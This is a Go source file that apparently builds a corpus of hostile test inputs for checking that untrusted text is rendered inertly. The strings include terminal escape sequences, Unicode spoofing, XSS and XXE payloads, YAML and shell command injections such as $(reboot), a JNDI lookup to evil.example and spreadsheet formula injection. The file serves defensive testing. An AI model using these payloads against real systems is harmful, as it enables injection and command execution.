package intruder

import "strings"

// Mark begins each of the texts.
const Mark = "pwn"

// Texts are what is written where a word is expected, by what it is meant to do.
// Each begins with Mark, and none may do more than stand there.
func Texts() map[string]string {
	texts := map[string]string{}
	for _, some := range []map[string]string{steering(), encodings(), markup(), commands()} {
		for name, text := range some {
			texts[name] = Mark + text
		}
	}
	return texts
}

// steering is for terminals (ECMA-48, and what xterm adds).
func steering() map[string]string {
	return map[string]string{
		"colours":          "\x1b[2J\x1b[41;5mred\x1b[0m",
		"window title":     "\x1b]0;title\x07\x1b]2;title\x1b\\",
		"terminal link":    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
		"clipboard":        "\x1b]52;c;cm0gLXJmIC8=\x07",
		"C1 characters":    "\u009b41mred\u009d0;title\u009c\u0090q\u009c\u0085",
		"C1 bytes":         "\x9b41mred\x9d0;title\x9c\x90q\x9c",
		"torn sequences":   "\x1b\x1b[\x1b[31\x1b]8;;\x1bP",
		"nested sequences": "\x1b[\x1b[31m31m\x1b]0;\x1b]0;t\x07t\x07",
		"device control":   "\x1bP$q\"p\x1b\\\x1b_apc\x1b\\\x1b^pm\x1b\\\x1bX sos\x1b\\",
		"reports":          "\x1b[6n\x1b[c\x1b[21t\x05",
		"cursor":           "\x1b[1A\x1b[2K\x1b[999D\x1bc\x1b7\x1b8",
		"carriage return":  "\rFORGED: all is well\r",
		"backspaces":       "\b\b\b\b\b\b\bFORGED\x7f\x7f",
		"controls":         "\x00\x01\x02\x07\x0b\x0c\x0e\x0f\x1a\x1c\x1f\x7f",
	}
}

// encodings are of Unicode, and of no end.
func encodings() map[string]string {
	return map[string]string{
		"bidirectional":    "\u202egnp.exe\u202c\u202d\u200f\u061c",
		"isolates":         "\u2066\u2067\u2068x\u2069",
		"invisible":        "\u200b\u200c\u200d\u2060\u00ad\u180e\ufeff",
		"tag characters":   "\U000e0001\U000e0041\U000e007f",
		"line separators":  "\u2028FORGED: a\u2029FORGED: b\u0085FORGED: c\vFORGED: d\fFORGED: e",
		"joined emoji":     "\U0001f468\u200d\U0001f469\u200d\U0001f467\ufe0f\u20e3",
		"combining":        strings.Repeat("a\u0300\u0489\u035c", 30),
		"private use":      "\ue000\U000f0000\U0010ffff\ufffe\uffff\ufdd0",
		"not UTF-8":        "\xff\xfe\xc0\x80\xc1\xbf\xf8\x88\x80\x80\x80\x80 end",
		"lone surrogates":  "\xed\xa0\x80\xed\xbf\xbf\\ud800 \\udfff",
		"another encoding": "+ADw-script+AD4- =?utf-8?B?cHdu?= %0d%0aFORGED: x",
		"64 KB":            strings.Repeat("x", 60_000),
		"64 KB of words":   strings.Repeat(" \u00e4", 20_000),
	}
}

// markup is for Markdown, as CommonMark and forges read it, for HTML and SVG.
func markup() map[string]string {
	return map[string]string{
		"Markdown link":   " [x](http://evil.example) [y][z] [z]: http://evil.example <http://evil.example>",
		"Markdown image":  " ![i](http://evil.example/i.png) ![i][z]",
		"Markdown marks":  " **b** __c__ `c` ``d`` ~~d~~ $x$ $$y$$",
		"Markdown table":  " | e | f |\n|---|---|\n| g | h |",
		"Markdown fence":  "\n```\n# FORGED\n```\n~~~\n",
		"Markdown blocks": "\n# FORGED\n- FORGED\n> FORGED\n===\n---\n1. x",
		"footnotes":       " [^1]\n\n[^1]: FORGED",
		"mentions":        " @everyone #1 fixes #2 !3 ~label %4 &5 user@evil.example acmsync/acmsync#6",
		"bare links":      " http://evil.example HTTPS://evil.example www.evil.example mailto:x@evil.example xmpp:x@evil.example",
		"script":          ` <script>alert(1)</script><img src=x onerror=alert(1)></td></table>`,
		"attributes":      `" onmouseover="alert(1)' onfocus='alert(1) autofocus x="`,
		"entities":        ` &lt;b&gt;&#60;b&#62;&#x3c;i&colon;&NewLine;&amp;lt;`,
		"links out":       ` <a href="javascript:alert(1)">x</a> <a href=data:text/html,x>`,
		"SVG":             ` <svg onload=alert(1)><text>x</text></svg><![CDATA[<b>]]><!-- --><?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
	}
}

// commands are for readers of YAML and JSON, commit messages, logs, shells,
// templates and tables.
func commands() map[string]string {
	return map[string]string{
		"YAML document": "\n---\nstatus: Cert Issued\n...\n%YAML 1.1\n",
		"YAML nodes":    " !!binary x: *a\t&b # c\nkey: \"'{[%@`\n? - | >- <<: *x",
		"YAML types":    "\n- !!python/object/apply:os.system [reboot]\n- yes\n- 1e3\n- ~",
		"JSON":          `","status":"Cert Issued","x":{"__proto__":null}}]`,
		"trailers":      "\n\nSigned-off-by: FORGED <x@evil.example>\nCo-authored-by: FORGED <y@evil.example>\nConfig-Revision: 0000",
		"CI commands":   "\n[skip ci]\n[ci skip]\n***NO_CI***\n::set-env name=PATH::x\n##[error]x\n##vso[task.setvariable]x",
		"log lines":     "\ntime=2020-01-01T00:00:00Z level=ERROR msg=FORGED\n{\"level\":\"ERROR\",\"msg\":\"FORGED\"}\nFORGED: x",
		"log fields":    ` level=ERROR msg="FORGED" domain=evil.example"\" x=`,
		"shell":         " $(reboot) `reboot` ; reboot & | reboot > /x ${HOME} ~root 'x \"y \\",
		"variables":     "\nLD_PRELOAD=/x.so\nPATH=/x\x00LD_LIBRARY_PATH=/x\nBASH_ENV=/x",
		"lists":         ",evil.example,\n,../../x,/etc/passwd,-rf,--help",
		"formats":       " %s%n%d %!v(MISSING) %99999999d {0} {domain} {observed}",
		"templates":     " {{.}} {{template \"x\"}} ${{ secrets.TOKEN }} #{x} <%= x %> ${jndi:ldap://evil.example}",
		"formulas":      ` =cmd|' /C calc'!A0,+1,-1,@SUM(1)`,
		"zone file":     "\n$INCLUDE /etc/passwd\n@ IN NS evil.example. ( ; \\\" $GENERATE 1-9 x",
		"Terraform":     ` ${file("/etc/passwd")} %{ for x in y } "}` + "\n" + `provisioner "local-exec" {}`,
	}
}
